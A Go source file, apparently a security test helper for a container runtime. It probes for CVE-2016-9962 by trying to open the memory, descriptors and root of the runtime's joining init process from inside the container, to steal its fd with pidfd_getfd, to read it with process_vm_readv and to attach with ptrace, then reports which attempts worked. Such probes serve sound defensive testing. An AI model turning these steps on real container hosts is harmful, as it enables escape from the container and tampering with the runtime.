package main

import (
	"fmt"
	"os"
	"runtime"
	"strings"

	"golang.org/x/sys/unix"
)

// attackJoiner tries to get hold of every process that comes into its pid
// namespace while that is the runtime's still (CVE-2016-9962): traces it, opens
// its memory, takes its descriptors, looks at its root. A process that has
// become the container's own program (its command line is sleep's) is no prey.
func attackJoiner([]string) error {
	runtime.LockOSThread()
	first := map[int]bool{}
	for _, pid := range otherPids() {
		first[pid] = true
	}
	told := map[string]bool{}
	tell := func(what string) {
		if !told[what] {
			told[what] = true
			fmt.Println(what)
		}
	}
	for {
		for _, pid := range otherPids() {
			if first[pid] {
				continue
			}
			command, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
			if err != nil || len(command) == 0 || !ours(command) {
				continue
			}
			if f, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0); err == nil {
				f.Close()
				if still(pid) {
					tell("memory")
				}
			}
			for fd := range 20 { // their numbers anybody of the same user may list
				if _, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%d", pid, fd)); err == nil && still(pid) {
					tell("descriptors")
				}
			}
			if _, err := os.Readlink(fmt.Sprintf("/proc/%d/root", pid)); err == nil && still(pid) {
				tell("root")
			}
			if fd, err := unix.PidfdOpen(pid, 0); err == nil {
				if got, err := unix.PidfdGetfd(fd, 3, 0); err == nil {
					unix.Close(got)
					tell("pidfd_getfd")
				}
				unix.Close(fd)
			}
			var word [1]byte
			local := []unix.Iovec{{Base: &word[0], Len: 1}}
			if _, err := unix.ProcessVMReadv(pid, local, []unix.RemoteIovec{{Base: 0x400000, Len: 1}}, 0); err == nil && still(pid) {
				tell("process_vm_readv")
			}
			if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); errno == 0 {
				if still(pid) {
					tell("ptrace")
				}
				// Or its end would be told to this process and not to the runtime.
				var status unix.WaitStatus
				_ = unix.PtraceInterrupt(pid)
				_, _ = unix.Wait4(pid, &status, unix.WALL, nil)
				_ = unix.PtraceDetach(pid)
			}
		}
	}
}

func still(pid int) bool {
	command, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	return err == nil && ours(command)
}

// ours: the runtime's own process, before it becomes the program that was asked for.
func ours(command []byte) bool {
	return strings.Contains(string(command), "\x00init\x00") || strings.HasSuffix(string(command), "\x00init")
}

// dumpable has a process of that name, of this program, which can be taken
// hold of: what the joiner would be without its protection. It waits.
func dumpable([]string) error {
	_, _, errno := unix.Syscall(unix.SYS_PRCTL, unix.PR_SET_DUMPABLE, 1, 0)
	if errno != 0 {
		return errno
	}
	return sleepForever(nil)
}

func sleepForever([]string) error {
	for {
		_ = unix.Nanosleep(&unix.Timespec{Sec: 1000}, nil)
	}
}
